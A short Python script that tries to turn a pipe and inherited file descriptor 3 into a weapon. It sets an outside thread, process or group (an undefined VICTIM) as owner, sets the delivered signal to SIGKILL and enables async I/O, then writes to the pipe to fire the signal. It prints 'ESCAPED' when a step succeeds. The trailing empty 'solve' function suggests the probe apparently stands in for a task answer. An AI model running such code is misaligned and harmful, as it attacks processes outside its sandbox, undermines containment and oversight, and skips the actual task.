# Gives a pipe and its own connection an outside thread, process or group for owner.
import fcntl, os, struct
F_SETOWN_EX, F_SETSIG, O_ASYNC = 15, 10, 0o20000
for kind in (0, 1, 2):
    ours, theirs = os.pipe()
    for descriptor in (ours, 3):
        for command, value in ((F_SETOWN_EX, struct.pack("ii", kind, VICTIM)), (F_SETSIG, 9), (fcntl.F_SETFL, os.O_NONBLOCK | O_ASYNC)):
            try:
                fcntl.fcntl(descriptor, command, value)
                print("ESCAPED", kind, command)
            except OSError:
                pass
    os.write(theirs, b"x")
def solve(x):
    return None
